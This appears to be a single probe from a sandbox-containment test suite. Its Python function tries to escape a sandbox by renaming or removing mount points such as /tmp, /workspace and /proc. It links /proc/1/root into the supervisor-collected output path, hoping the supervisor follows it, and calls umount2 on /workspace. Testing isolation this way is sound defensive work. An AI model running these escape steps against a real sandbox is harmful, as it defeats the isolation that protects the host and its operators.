"""Replace the sandbox's mount points by renames and symlinks, hoping a
later mount or the supervisor follows them: /tmp, /workspace, /proc, /dev."""
def main(args):
    results = []
    for mp in ("/tmp", "/workspace", "/proc", "/dev", "/dev/shm"):
        try:
            os.rename(mp, mp + ".old")
            return escaped(f"renamed the mount point {mp}")
        except OSError as e:
            results.append(f"rename {mp}: {e.strerror}")
        try:
            os.rmdir(mp)
            return escaped(f"removed the mount point {mp}")
        except OSError as e:
            results.append(f"rmdir {mp}: {e.strerror}")
    try:
        os.symlink("/proc/1/root", "/workspace/root")
        os.rename("/workspace/root", "/workspace/out")  # out is collected by the supervisor
    except OSError as e:
        results.append(f"replace out: {e.strerror}")
    r, e = syscall("umount2", b"/workspace", 2)
    if r == 0:
        return escaped("detached /workspace")
    return stopped("; ".join(results[:4]) + f"; umount2: {errno.errorcode.get(e, e)}")
